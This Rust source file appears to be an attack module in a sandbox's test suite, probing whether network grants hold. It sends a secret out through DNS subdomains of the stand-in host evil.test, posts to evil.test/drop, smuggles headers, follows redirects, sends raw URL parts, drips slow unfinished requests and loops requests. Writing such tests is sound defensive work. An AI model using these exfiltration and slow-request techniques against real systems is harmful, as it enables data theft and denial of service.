//! Reaching places, by methods and in shapes, that the grant does not name.

use soma_sdk::bindings::wasi::http::outgoing_handler;
use soma_sdk::bindings::wasi::http::types::{Fields, OutgoingBody, OutgoingRequest, Scheme};
use soma_sdk::clock;
use soma_sdk::http::{Error, Method, Request};

use crate::{Outcome, stopped};

pub(crate) fn run(name: &str, argument: &str) -> Outcome {
    match name {
        "fetch" => fetch(argument),
        // The parts as they are, without a URL parser of ours in between.
        "raw" => raw(argument),
        // Follows where the server points.
        "redirect" => {
            let response = Request::new(Method::Get, argument).send().map_err(stopped)?;
            let to = response.header("location").ok_or("no redirect")?.to_owned();
            fetch(&format!("GET {to}"))
        }
        // The data is in the names that we ask for.
        "dns" => {
            let reached: Vec<String> = "s3cret"
                .bytes()
                .map(|byte| fetch(&format!("GET https://x{byte:02x}.evil.test/")))
                .filter_map(Result::ok)
                .collect();
            if reached.is_empty() {
                Err("no name was reached".to_owned())
            } else {
                Ok(reached.join(" "))
            }
        }
        "header" => {
            let (name, value) = argument.split_once('=').ok_or("NAME=VALUE")?;
            let request = Request::new(Method::Get, "https://evil.test/echo").header(name, value);
            request.send().map(|r| r.text()).map_err(stopped)
        }
        "request-body" => {
            let request =
                Request::new(Method::Post, "https://evil.test/drop").body(vec![b'x'; 4 << 20]);
            request.send().map(|r| r.status.to_string()).map_err(stopped)
        }
        "response-body" => {
            let request = Request::new(Method::Get, argument).body_max(usize::MAX);
            request.send().map(|r| r.body.len().to_string()).map_err(stopped)
        }
        "unfinished-request" => unfinished(false),
        "slow-request" => unfinished(true),
        // One request after another, each within the grant.
        "many" => loop {
            fetch("GET https://evil.test/piece")?;
        },
        other => panic!("no attack is called net.{other}"),
    }
}

fn fetch(argument: &str) -> Outcome {
    let (method, url) = argument.split_once(' ').ok_or("METHOD URL")?;
    let response = Request::new(parse(method), url).send().map_err(|error| match error {
        Error::Exchange(code) => format!("{code:?}"),
        other => other.to_string(),
    })?;
    Ok(format!("{} {}", response.status, response.text()))
}

fn parse(method: &str) -> Method {
    match method {
        "GET" => Method::Get,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        "CONNECT" => Method::Connect,
        "TRACE" => Method::Trace,
        other => Method::Other(other.to_owned()),
    }
}

/// SCHEME AUTHORITY PATH, set one by one.
fn raw(argument: &str) -> Outcome {
    let mut parts = argument.splitn(3, ' ');
    let mut part = || parts.next().unwrap_or_default().to_owned();
    let (scheme, authority, path) = (part(), part(), part());
    let request = OutgoingRequest::new(Fields::new());
    let scheme = match scheme.as_str() {
        "https" => Scheme::Https,
        "http" => Scheme::Http,
        other => Scheme::Other(other.to_owned()),
    };
    request.set_scheme(Some(&scheme)).map_err(|()| "the scheme is refused")?;
    request.set_authority(Some(&authority)).map_err(|()| "the authority is refused")?;
    request.set_path_with_query(Some(&path)).map_err(|()| "the path is refused")?;
    let pending = outgoing_handler::handle(request, None).map_err(stopped)?;
    pending.subscribe().block();
    match pending.get() {
        Some(Ok(Ok(response))) => Ok(response.status().to_string()),
        other => Err(stopped(other.map(|r| r.map(|r| r.map(|_| ()))))),
    }
}

/// Announces a body, sends a little of it, keeps it open, and waits for the answer; or lets it drip, one byte
/// after another.
fn unfinished(drip: bool) -> Outcome {
    let headers = Fields::new();
    headers.append("content-length", b"1000000").map_err(stopped)?;
    let request = OutgoingRequest::new(headers);
    request.set_method(&Method::Post).map_err(|()| "method")?;
    request.set_scheme(Some(&Scheme::Https)).map_err(|()| "scheme")?;
    request.set_authority(Some("evil.test")).map_err(|()| "authority")?;
    request.set_path_with_query(Some("/drop")).map_err(|()| "path")?;
    let body = request.body().map_err(|()| "body")?;
    let pending = outgoing_handler::handle(request, None).map_err(stopped)?;
    let stream = body.write().map_err(|()| "stream")?;
    let _ = stream.blocking_write_and_flush(b"a little");
    while drip && stream.blocking_write_and_flush(b".").is_ok() {
        clock::wait_ms(20);
    }
    pending.subscribe().block();
    let outcome = stopped(pending.get().map(|r| r.map(|r| r.map(|r| r.status()))));
    drop(stream);
    let _ = OutgoingBody::finish(body, None);
    Ok(outcome)
}
